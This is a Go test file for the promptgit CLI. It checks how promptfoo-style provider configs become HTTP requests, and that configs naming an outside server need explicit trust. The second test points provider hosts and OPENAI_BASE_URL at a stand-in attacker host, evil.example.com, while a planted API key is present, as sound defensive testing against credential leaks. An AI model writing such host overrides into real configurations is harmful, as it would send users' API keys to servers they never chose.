package cmd_test

import (
	"strings"
	"testing"

	"github.com/promptgit/promptgit/internal/llmtest"
)

func TestProvidersUnderPromptfoosNamesAreAskedAsPromptfooAsks(t *testing.T) {
	t.Parallel()
	l, server := served(t, llmtest.Rule{Match: "(?s).*", Answer: "yes"})
	base := strings.TrimSuffix(server.URL, "/v1")
	l = l.at(".", "OPENAI_BASE_URL=", "OPENAI_API_KEY=", "MY_KEY="+plantedKey, "OLLAMA_BASE_URL="+base, "SERVER="+server.URL, "SIZE=small")
	l.write("promptfooconfig.yaml", `prompts: [Hi]
env: {MODEL: '{{ env.SIZE }}'}
providers:
- {id: 'openai:{{ env.MODEL }}', config: {apiBaseUrl: '{{ env.SERVER }}', apiKey: '{{ env.MY_KEY }}', passthrough: {top_k: 3}, cost: 1}}
- {id: 'openai:chat:gpt-5', config: {apiBaseUrl: '{{ env.SERVER }}'}}
- {id: 'groq:llama', label: g, config: {apiBaseUrl: '{{ env.SERVER }}', apiKeyEnvar: MY_KEY, max_tokens: 9}}
- {id: 'openai:responses:gpt-4.1-mini', config: {apiBaseUrl: '{{ env.SERVER }}', max_output_tokens: 7}}
- {id: 'openai:responses:gpt-4.1', config: {apiBaseUrl: '{{ env.SERVER }}'}}
- ollama:chat:llama3.1:8b
- file://more.yaml
tests: [{vars: {x: hi}, assert: [{type: equals, value: 'yes'}]}]
`)
	l.write("more.yaml", "- {id: 'localai:m', config: {apiBaseUrl: '"+server.URL+"', tools: file://tools.json}}\n")
	l.write("tools.json", `[{"type":"function"}]`)
	a := l.want(0, "eval", "--suite", "promptfooconfig.yaml", "--json", "-j", "1")
	if !strings.Contains(a.stderr, "promptfooconfig.yaml:4:3: cost of a provider is ignored") {
		t.Errorf("got %s", a.stderr)
	}
	var got []string
	for _, req := range server.Requests() {
		got = append(got, string(req.Body)+" "+req.Header.Get("Authorization"))
	}
	for _, want := range []string{
		`"model":"small","messages":[{"role":"user","content":"Hi"}],"top_k":3,"temperature":0,"max_tokens":1024} Bearer ` + plantedKey,
		`"model":"gpt-5","messages":[{"role":"user","content":"Hi"}]} `,
		`"model":"llama","messages":[{"role":"user","content":"Hi"}],"max_tokens":9,"temperature":0} Bearer ` + plantedKey,
		`{"model":"gpt-4.1-mini","input":[{"role":"user","content":"Hi"}],"max_output_tokens":7,"temperature":0} `,
		`{"model":"gpt-4.1","input":[{"role":"user","content":"Hi"}],"temperature":0,"max_output_tokens":1024} `,
		`"model":"llama3.1:8b","messages":[{"role":"user","content":"Hi"}]} `,
		`"model":"m","messages":[{"role":"user","content":"Hi"}],"tools":[{"type":"function"}]} `,
	} {
		if !strings.Contains(strings.Join(got, "\n")+"\n", want+"\n") {
			t.Errorf("want %s in\n%s", want, strings.Join(got, "\n"))
		}
	}
	if len(got) != 7 {
		t.Errorf("want 7 calls, got %d", len(got))
	}
}

func TestAServerThatAFileNamesNeedsTrust(t *testing.T) {
	t.Parallel()
	for _, provider := range []string{
		"['groq:llama']",
		"[{id: 'openai:m', config: {apiHost: evil.example.com}}]",
		"['openai:m']\nenv: {OPENAI_BASE_URL: 'https://evil.example.com/v1'}",
	} {
		l := foo(t, "prompts: [Hi]\ntests: [{vars: {x: hi}}]\nproviders: "+provider+"\n")
		l = l.at(".", "GROQ_API_KEY="+plantedKey, "OPENAI_API_KEY="+plantedKey)
		a := l.want(5, "eval", "--suite", "promptfooconfig.yaml")
		if !strings.Contains(a.stderr, "allow it with: promptgit trust") || strings.Contains(a.stderr, plantedKey) {
			t.Errorf("%s: got %s", provider, a.stderr)
		}
		if a = l.want(0, "trust", "--yes"); !strings.Contains(a.out+a.stderr, "POST https://") {
			t.Errorf("%s: trust shows %s%s", provider, a.out, a.stderr)
		}
	}
}
